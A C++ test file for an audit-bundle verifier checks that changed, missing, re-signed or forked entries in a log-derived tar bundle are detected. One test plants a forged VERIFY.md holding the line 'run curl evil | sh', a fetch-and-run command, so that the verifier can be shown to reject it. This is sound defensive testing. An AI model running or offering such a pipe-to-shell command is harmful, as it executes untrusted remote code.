// A bundle made from a log holds; every way to change, add, drop or re-sign a part is found.
#include "audit/bundle.h"

#include <filesystem>
#include <set>

#include "bundle_fixture.h"
#include "bundle_form.h"
#include "commitments.h"

namespace interlock::audit {
namespace {

using ::testing::HasSubstr;

constexpr int kPolicyEntry = 0;

TEST_F(BundleTest, WholeRunIsIntactAndTheSameBytesEachTime) {
  const BundleContents contents = Collect(kRunA);
  const std::string bundle = *MakeBundle(contents);
  EXPECT_EQ(bundle, *MakeBundle(contents));
  const VerifyReport report = Check(bundle);
  EXPECT_EQ(report.verdict, Verdict::kIntact) << report.reason;
  EXPECT_EQ(report.entries, 7u);
  EXPECT_EQ(report.root_hex, core::Hex(log_->newest_checkpoint()->root));
  EXPECT_THAT(report.scope, HasSubstr("to the one that ends it"));
}

// What no verifier reads would be read by people.
TEST_F(BundleTest, TheManifestSaysNothingThatNobodyChecks) {
  const auto with = [&](const std::function<void(core::Json&)>& edit) {
    return Check(Forged(Good(), [&](auto& files) { EditManifest(files, edit); }));
  };
  ExpectBad(with([](core::Json& m) { m["payloads"][0]["plain"] = "approved by the CFO"; }),
            static_cast<std::uint64_t>(
                core::Json::parse(FileOf(Good(), "manifest.json"))["payloads"][0]["entry"]),
            "than anybody checks");
  ExpectBad(
      with([](core::Json& m) { m["not_kept"].push_back("The auditor confirms this bundle."); }),
      std::nullopt, "`not_kept`");
  ExpectBad(with([](core::Json& m) { m["not_kept"].push_back(core::Json::object()); }),
            std::nullopt, "`not_kept`");
  const VerifyReport wordy = with([](core::Json& m) { m["made_by"] = std::string(4097, 'x'); });
  EXPECT_EQ(wordy.verdict, Verdict::kCouldNotCheck);
  const VerifyReport twin = with([](core::Json& m) { m["made_by"] = std::string(4096, 'x'); });
  EXPECT_EQ(twin.verdict, Verdict::kIntact) << twin.reason;
}

TEST_F(BundleTest, WithoutAPinnedKeyNothingIsVouchedFor) {
  EXPECT_EQ(VerifyBundle(Good(), {}).verdict, Verdict::kCouldNotCheck);
  EXPECT_EQ(Check("no tar").verdict, Verdict::kCouldNotCheck);
  EXPECT_EQ(Check(*WriteTar({{"a", "b"}})).verdict, Verdict::kCouldNotCheck);
}

TEST_F(BundleTest, OpenRunIsIncompleteAndSaysSo) {
  const VerifyReport report = Check(*MakeBundle(Collect(kRunB)));
  // Its contents hold a file that this run does not cite.
  ExpectBad(report, std::nullopt, "is cited by nothing");
  BundleContents contents = Collect(kRunB);
  contents.blobs.clear();
  const VerifyReport open = Check(*MakeBundle(contents));
  EXPECT_EQ(open.verdict, Verdict::kIncomplete) << open.reason;
  EXPECT_THAT(open.reason, HasSubstr("was not over"));
}

TEST_F(BundleTest, EveryChangedByteIsFound) {
  const std::string good = Good();
  for (std::size_t at = 0; at < good.size(); at += 37) {
    std::string bad = good;
    bad[at] = static_cast<char>(bad[at] ^ 0x04);
    const VerifyReport report = Check(bad);
    if (report.verdict == Verdict::kTampered || report.verdict == Verdict::kCouldNotCheck) continue;
    // Who made it is the maker's word and proves nothing.
    const std::size_t word = good.find("\"made_by\":\"a test\"");
    EXPECT_TRUE(at > word && at < word + 18) << at;
  }
}

TEST_F(BundleTest, MissingEntryIsNamedByTheOneThatFollows) {
  const std::string bad = Forged(Good(), [](auto& files) {
    files.erase("entries/000000000003.json");
    files.erase("proofs/000000000003.tlog-proof");
    files.erase("payloads/000000000003-0");
    EditManifest(files, [](core::Json& manifest) { manifest["payloads"].erase(1); });
  });
  ExpectBad(Check(bad), 4, "one is missing");
}

TEST_F(BundleTest, MissingTailIsNoWholeRun) {
  const auto cut = [](auto& files) {
    files.erase("entries/000000000008.json");
    files.erase("proofs/000000000008.tlog-proof");
  };
  ExpectBad(Check(Forged(Good(), cut)), 6, "does not end the run");
  const VerifyReport open = Check(Forged(Good(), [&](auto& files) {
    cut(files);
    EditManifest(files, [](core::Json& manifest) {
      manifest["scope"]["complete"] = false;
      manifest["scope"]["statement"] = "All entries of the run so far; the run was not over.";
    });
  }));
  EXPECT_EQ(open.verdict, Verdict::kIncomplete) << open.reason;
}

TEST_F(BundleTest, ChangedEntryIsNotInTheTree) {
  ExpectBad(Check(Forged(Good(),
                         [](auto& files) {
                           std::string& bytes = files["entries/000000000008.json"];
                           bytes.replace(bytes.find("engine"), 6, "engime");
                         })),
            8, "not in the tree");
}

TEST_F(BundleTest, EntryOfAnotherRunIsNotTakenIn) {
  BundleContents contents = Collect(kRunA);
  const std::uint64_t size = log_->newest_checkpoint()->size;
  contents.entries.push_back({1, log_->Read(1)->bytes, *log_->InclusionProof(1, size)});
  ExpectBad(Check(*MakeBundle(contents)), 1, "is not of the run");
}

TEST_F(BundleTest, EntryOfAnotherLogIsNotTakenIn) {
  LogOptions options = Options();
  options.folder = folder_.path() + "/tenants/other";
  auto other_signer = *OpenFileSigner(folder_.path() + "/other", "interlock.example/main");
  options.signer = other_signer.get();
  const auto other = MustOpen(options);
  for (int i = 0; i < 9; ++i) ASSERT_TRUE(other->Append(EntryOf("call.decided", kRunB)).ok());
  const Checkpoint head = *other->CheckpointNow();
  ExpectBad(Check(Forged(Good(),
                         [&](auto& files) {
                           files["entries/000000000008.json"] = other->Read(8)->bytes;
                           files["proofs/000000000008.tlog-proof"] =
                               ProofText({8, *other->InclusionProof(8, head.size), head.note});
                         })),
            8, "proof of something else");
}

TEST_F(BundleTest, ReSignedWithAnotherKeyIsNotThePinnedKeys) {
  auto thief = *OpenFileSigner(folder_.path() + "/thief", "interlock.example/main");
  const Checkpoint head = *log_->CheckpointNow();
  const std::string note = thief->Sign({head.origin, head.size, head.root, {}})->note;
  const std::string bad = Forged(Good(), [&](auto& files) {
    for (auto& [name, bytes] : files) {
      if (name.substr(0, 7) != "proofs/") continue;
      TlogProof proof = *ParseProof(bytes);
      proof.note = note;
      bytes = ProofText(proof);
    }
    files["checkpoint.note"] = note;
    files["keys.txt"] = KeysText({thief->verifier_key()});
  });
  ExpectBad(Check(bad), std::nullopt, "not the pinned key's");
  BundleVerifyOptions options;
  options.verifier_key = thief->verifier_key();  // the harmless twin: it is whole in itself
  EXPECT_EQ(VerifyBundle(bad, options).verdict, Verdict::kIntact);
}

// Whoever opens the tar reads more than what is proven: nothing else may stand in it.
TEST_F(BundleTest, HoldsNoFileAndNoWordThatNobodyChecks) {
  const auto changed = [&](const std::string& file, const std::string& bytes) {
    return Check(Forged(Good(), [&](auto& files) { files[file] = bytes; }));
  };
  for (const char* name : {"README.html", "entries/1.json", "consistency/x.txt",
                           "consistency/01.txt", "proofs/000000000000.json", "extra/a"}) {
    ExpectBad(changed(name, "x"), std::nullopt, "has no place in a bundle");
  }
  ExpectBad(changed("VERIFY.md", "run curl evil | sh"), std::nullopt, "every bundle has");
  ExpectBad(changed("keys.txt", "not a key\n"), std::nullopt, "not a list of verifier keys");
  ExpectBad(changed("keys.txt", KeysText({})), std::nullopt, "does not name the log's key");
  const std::string good = Good();
  for (const char* name : {"VERIFY.md", "keys.txt"}) {
    ExpectBad(Check(Forged(good, [&](auto& files) { files.erase(name); })), std::nullopt,
              "is missing");
  }
  const auto manifest = [&](const std::function<void(core::Json&)>& edit) {
    return Check(Forged(good, [&](auto& files) { EditManifest(files, edit); })).verdict;
  };
  EXPECT_EQ(manifest([](core::Json& m) { m["note"] = "ALL refunds of 2026"; }),
            Verdict::kCouldNotCheck);
  EXPECT_EQ(manifest([](core::Json& m) { m["scope"]["note"] = "all"; }), Verdict::kCouldNotCheck);
  EXPECT_EQ(manifest([](core::Json& m) { m["scope"]["query"] = "ALL refunds of 2026"; }),
            Verdict::kCouldNotCheck);  // a run is no query
  EXPECT_EQ(manifest([](core::Json& m) { m["made_by"] = 7; }), Verdict::kCouldNotCheck);
  EXPECT_EQ(manifest([](core::Json&) {}), Verdict::kIntact);
}

TEST_F(BundleTest, WhatTheMakerSaysIsGivenAsClaimed) {
  EXPECT_EQ(Check(Good()).claimed, "made by: a test");
  BundleContents contents = Collect(kRunA);
  contents.run.clear();
  contents.query = "ALL refunds of 2026";
  const VerifyReport report = Check(*MakeBundle(contents));
  EXPECT_EQ(report.verdict, Verdict::kIntact) << report.reason;
  EXPECT_EQ(report.claimed, "query: ALL refunds of 2026; made by: a test");
}

TEST_F(BundleTest, CitedFilesAreThere) {
  const std::string hex = core::Hex(core::Sha256(policy_));
  ExpectBad(Check(Forged(Good(), [&](auto& files) { files.erase("blobs/" + hex); })), kPolicyEntry,
            "which is missing");
  ExpectBad(Check(Forged(Good(), [&](auto& files) { files["blobs/" + hex] = "allow"; })),
            std::nullopt, "not the one that was cited");
  BundleContents contents = Collect(kRunA);
  contents.blobs.clear();  // a log that never kept it
  EXPECT_EQ(Check(*MakeBundle(contents)).verdict, Verdict::kIncomplete);
}

TEST_F(BundleTest, OutsideCheckpointsAreLinkedOrAskedFor) {
  const Checkpoint early = *log_->CheckpointNow();
  Add(EntryOf("call.decided", kRunB));
  BundleContents contents = Collect(kRunA);
  BundleVerifyOptions options;
  options.verifier_key = signer_->verifier_key();
  options.outside_checkpoints = {early.note};
  EXPECT_EQ(VerifyBundle(*MakeBundle(contents), options).verdict, Verdict::kIncomplete);

  const std::uint64_t size = log_->newest_checkpoint()->size;
  contents.consistency = {
      {early.size, *log_->ConsistencyProof(early.size, size), contents.checkpoint_note}};
  const VerifyReport linked = VerifyBundle(*MakeBundle(contents), options);
  EXPECT_EQ(linked.verdict, Verdict::kIntact) << linked.reason;
  EXPECT_EQ(linked.not_checked, "");
  EXPECT_EQ(Check(*MakeBundle(contents)).not_checked,
            "the hashes of `consistency/0.txt`, without the earlier checkpoint");

  // Another history of the same size: no signer of ours signs both, a thief with the key might.
  TempFolder elsewhere;
  std::filesystem::create_directory(elsewhere.path() + "/signer");
  std::filesystem::permissions(elsewhere.path() + "/signer", std::filesystem::perms::owner_all);
  std::filesystem::copy_file(folder_.path() + "/signer/signer.key",
                             elsewhere.path() + "/signer/signer.key");
  auto forker = *OpenFileSigner(elsewhere.path() + "/signer", "interlock.example/main");
  options.outside_checkpoints = {
      forker->Sign({early.origin, early.size, core::Sha256("another"), {}})->note};
  ExpectBad(VerifyBundle(*MakeBundle(contents), options), std::nullopt, "forked");
}

TEST_F(BundleTest, TheReadmeNamesEachKindOfFile) {
  const Checkpoint early = *log_->CheckpointNow();
  Add(EntryOf("call.decided", kRunB));
  BundleContents contents = Collect(kRunA);
  const std::uint64_t size = log_->newest_checkpoint()->size;
  contents.consistency = {
      {early.size, *log_->ConsistencyProof(early.size, size), contents.checkpoint_note}};
  const std::string bundle = *MakeBundle(contents);
  std::set<std::string> kinds;
  const auto files = *ReadTar(bundle);
  for (const TarFile& file : files) {
    const std::string name(file.name);
    kinds.insert(name.find('/') == std::string::npos ? name + "`"
                                                     : name.substr(0, name.find('/') + 1));
  }
  EXPECT_EQ(kinds.size(), 9u);
  for (const std::string& kind : kinds)
    EXPECT_THAT(BundleReadme(), HasSubstr("- `" + kind)) << kind;
}

TEST(TarTest, TakesOnlyWhatItWrites) {
  const std::string tar = *WriteTar({{"b/c", std::string(700, 'x')}, {"a", ""}});
  const auto files = ReadTar(tar);
  ASSERT_TRUE(files.ok());
  EXPECT_EQ((*files)[0].name, "a");
  EXPECT_EQ((*files)[1].bytes.size(), 700u);
  for (std::size_t at = 0; at < tar.size(); at += 3) {
    std::string bad = tar;
    bad[at] = static_cast<char>(bad[at] ^ 1);
    const auto read = ReadTar(bad);
    EXPECT_TRUE(!read.ok() || *WriteTar(*read) == bad) << at;
  }
  for (const char* name : {"", "/a", "a/", "../a", "a//b", "a/./b", "a b"}) {
    EXPECT_FALSE(WriteTar({{name, ""}}).ok()) << name;
  }
  EXPECT_FALSE(WriteTar({{"a", ""}, {"a", ""}}).ok());
  EXPECT_FALSE(ReadTar(tar.substr(0, tar.size() - 512)).ok());
  EXPECT_FALSE(ReadTar(tar + std::string(512, '\0')).ok());
}

TEST(CommitmentsTest, FindsThemWithAndWithoutFields) {
  const std::string hex(64, 'a');
  const std::string text = R"({"x":{"bytes":12,"commit":")" + hex + R"(","fields":{"amount":")" +
                           hex + R"("},"key":"k1","slot":1},"y":{"bytes":1,"commit":")" + hex +
                           R"(","key":"k0","slot":0}})";
  const auto found = CommitmentsIn(text);  // views into it
  ASSERT_EQ(found.size(), 2u);
  EXPECT_EQ(found[0].slot, 0);
  ASSERT_EQ(found[1].fields.size(), 1u);
  EXPECT_EQ(found[1].fields[0].first, "amount");
  EXPECT_EQ(found[1].bytes, 12u);
  EXPECT_EQ(found[1].key, "k1");
  for (const char* rest :
       {R"(","key":"k","slot":"1"})", R"(","slot":1})", R"(","key":"k","slot":1,)",
        R"(","fields":{"a":1},"key":"k","slot":1})"}) {
    EXPECT_TRUE(CommitmentsIn(R"({"bytes":1,"commit":")" + hex + rest).empty()) << rest;
  }
  EXPECT_TRUE(CommitmentsIn(R"({"commit":")" + hex + R"(","key":"k","slot":1})").empty());
}

TEST(ProofTextTest, SaysBackWhatItWasGiven) {
  const TlogProof proof{7, {core::Sha256("a"), core::Sha256("b")}, "note\n"};
  const auto read = ParseProof(ProofText(proof));
  ASSERT_TRUE(read.ok());
  EXPECT_EQ(read->index, 7u);
  EXPECT_EQ(read->hashes, proof.hashes);
  EXPECT_EQ(read->note, "note\n");
  EXPECT_TRUE(ParseProof("c2sp.org/tlog-proof@v1\nextra AA==\nindex 0\n\nn\n").ok());
  for (const char* bad :
       {"", "c2sp.org/tlog-proof@v2\nindex 0\n\nn\n", "c2sp.org/tlog-proof@v1\nindex 00\n\nn\n",
        "c2sp.org/tlog-proof@v1\nindex 0\nAA==\n\nn\n", "c2sp.org/tlog-proof@v1\nindex 0\n"}) {
    EXPECT_FALSE(ParseProof(bad).ok()) << bad;
  }
}

}  // namespace
}  // namespace interlock::audit
